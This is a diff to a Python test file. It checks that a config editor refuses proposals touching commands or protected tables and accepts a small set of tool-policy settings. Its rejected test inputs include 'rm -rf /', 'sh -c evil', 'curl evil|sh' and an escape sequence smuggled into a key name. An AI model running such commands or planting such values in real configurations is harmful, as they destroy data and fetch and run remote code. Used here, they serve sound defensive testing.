@@ -1,11 +1,12 @@
 from __future__ import annotations
 
+import re
 import tomllib
 
 import pytest
 
 from selfheal_plugin.lifecycle.configedit import (
-    ChangeError, conflicts_with, edit_config, inverse_changes, remove_empty_tables, split_changes,
+    ChangeError, ConfigChange, conflicts_with, edit_config, inverse_changes, remove_empty_tables, split_changes,
 )
 from selfheal_plugin.errors import ConfigError
 
@@ -96,15 +97,47 @@ def test_conflicts_name_the_key_and_both_values():
     ({"kind": "config", "path": ["tools", "x", "t"], "value": None}, "not a TOML value"),
     ({"kind": "script", "text": "rm -rf /"}, "unknown kind"),
     ({"kind": "manual", "text": "  "}, "needs its text"),
+    # only the [tools."NAME"] and [servers."NAME"] keys ToolPolicy reads
+    ({"kind": "config", "path": ["canary", "imp-x", "tools", "list_dir", "timeout_ms"], "value": 1},
+     r"^change 1: canary\.imp-x\.tools\.list_dir\.timeout_ms is in \[canary\], which only selfheal's own "
+     r"canary, shadow and A/B commands write, never a proposal$"),
+    ({"kind": "config", "path": ["shadow", "imp-x", "fraction"], "value": 0.5}, r"is in \[shadow\], which only"),
+    ({"kind": "config", "path": ["ab", "ab-1"], "op": "delete"}, r"is in \[ab\], which only"),
+    ({"kind": "config", "path": ["tools", "X", "command"], "value": "rm -rf /"},
+     r"^change 1: tools\.X\.command is not a setting ToolPolicy reads; a proposal may change only "
+     r'\[tools\."NAME"\] timeout_ms, retry_attempts, retry_backoff_ms, preflight, circuit_breaker'),
+    ({"kind": "config", "path": ["servers", "search", "command"], "value": "sh -c evil"}, "is not a setting"),
+    ({"kind": "config", "path": ["mcpServers", "evil", "command"], "value": "curl evil|sh"}, "is not a setting"),
+    ({"kind": "config", "path": ["tools", "X"], "op": "delete"}, "is not a setting"),
+    ({"kind": "config", "path": ["tools", "X", "timeout_ms", "x"], "value": 1}, "is not a setting"),
+    ({"kind": "config", "path": ["tools", "X", "circuit_breaker"], "value": {"failure_threshold": 3, "cmd": "x"}},
+     "is not a setting"),
+    ({"kind": "config", "path": ["tools", "X", "circuit_breaker", "command"], "value": "x"}, "is not a setting"),
+    ({"kind": "config", "path": ["model"], "value": "evil"}, "is not a setting"),
+    ({"kind": "config", "path": ["tools", "x\x1b[2J", "command"], "value": "x"},
+     re.escape('change 1: tools."x\\x1b[2J".command is not a setting')),  # escaped where it lands
 ])
 def test_forbidden_changes_are_refused(change, message):
     with pytest.raises(ChangeError, match=message):
         split_changes([change])
 
 
+@pytest.mark.parametrize("change", [
+    set_(["tools", "a:b", "timeout_ms"], 1), set_(["tools", "a", "retry_attempts"], 1),
+    set_(["tools", "a", "retry_backoff_ms"], 1), set_(["tools", "a", "preflight"], ["path_exists"]),
+    set_(["tools", "a", "circuit_breaker", "half_open_requests"], 1),
+    set_(["tools", "a", "circuit_breaker"], {"failure_threshold": 3, "timeout_duration_sec": 60}),
+    {"kind": "config", "path": ["tools", "a", "circuit_breaker"], "op": "delete"},
+    set_(["servers", "k8s", "health_check"], True), {"kind": "config", "path": ["servers", "k8s", "auto_restart"],
+                                                      "op": "delete"},
+])
+def test_the_settings_toolpolicy_reads_may_be_changed(change):
+    assert len(split_changes([change])[0]) == 1
+
+
 def test_path_through_a_value_is_refused():
     with pytest.raises(ChangeError, match="is not a table"):
-        edit_config('model = "x"\n', changes(set_(["model", "timeout_ms"], 1)))
+        edit_config('tools = "x"\n', changes(set_(["tools", "a", "timeout_ms"], 1)))
 
 
 def test_unparsable_config_is_refused():
@@ -130,7 +163,7 @@ def test_a_crlf_file_keeps_crlf_and_new_lines_use_it():
 
 def test_a_file_with_mixed_line_endings_keeps_each_line_as_it_was():
     mixed = 'a = 1\r\nb = 2\n[t]\r\nc = 3\r\n'  # mostly CRLF: new lines get CRLF, the LF line stays LF
-    text = edit_config(mixed, changes(set_(["t", "d"], 4))).new_text
+    text = edit_config(mixed, [ConfigChange(("t", "d"), "set", 4)]).new_text  # the editor edits any key
     assert text == 'a = 1\r\nb = 2\n[t]\r\nc = 3\r\nd = 4\r\n'
-    lf = edit_config('a = 1\nb = 2\r\n', changes(set_(["c"], 3))).new_text  # mostly LF
+    lf = edit_config('a = 1\nb = 2\r\n', [ConfigChange(("c",), "set", 3)]).new_text  # mostly LF
     assert lf == 'a = 1\nb = 2\r\nc = 3\n'
